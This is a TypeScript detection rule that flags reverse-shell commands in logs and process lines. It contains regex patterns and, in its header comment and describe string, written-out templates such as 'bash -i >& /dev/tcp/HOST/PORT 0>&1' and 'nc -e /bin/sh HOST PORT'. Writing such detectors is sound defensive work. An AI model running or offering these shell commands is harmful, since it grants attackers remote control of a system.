/**
 * Reverse shells: an interactive shell wired to a network socket — `bash -i >& /dev/tcp/HOST/PORT 0>&1`,
 * `nc -e /bin/sh HOST PORT` (also `ncat`/`netcat`, `-c`), and `python -c 'import socket…'` one-liners.
 * Near misses that do NOT match: `nc -z HOST 443` (a port check), `python -c 'import json…'`, `> /dev/null`.
 */
import { commandHits } from './command-match';
import type { DetectionRule } from './types';

const DEV_TCP = /\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/;
const NC_EXEC = /(?:^|[\s;|&/])(?:nc|ncat|netcat)(?:\.[a-z]+)?\s+(?:[^|;&]*\s)?-[a-z]*[ec]\s*\S/;
const PY_SOCKET = /(?:^|[\s;|&/])python[0-9.]*\s+(?:-\S+\s+)*-c\s+.*\bimport\s+(?:[\w.]+\s*,\s*)*socket\b/;

export function reverseShellReason(text: string): string | null {
  if (DEV_TCP.test(text)) return 'shell redirected to /dev/tcp (reverse shell)';
  if (NC_EXEC.test(text)) return 'netcat running a program for a connection (nc -e)';
  if (PY_SOCKET.test(text)) return 'Python one-liner opening a raw socket';
  return null;
}

const NEEDLES = ['/dev/tcp/', '/dev/udp/', 'nc ', 'ncat', 'netcat', 'socket'];

export const reverseShell: DetectionRule = {
  id: 'reverse-shell',
  kind: 'reverse-shell',
  severity: 'critical',
  describe: 'reverse shells: bash -i >& /dev/tcp/…, nc -e, python -c "import socket…"',
  logNeedles: NEEDLES,
  processNeedles: NEEDLES,
  run: (input) => commandHits(input, { needles: NEEDLES, test: reverseShellReason }),
};
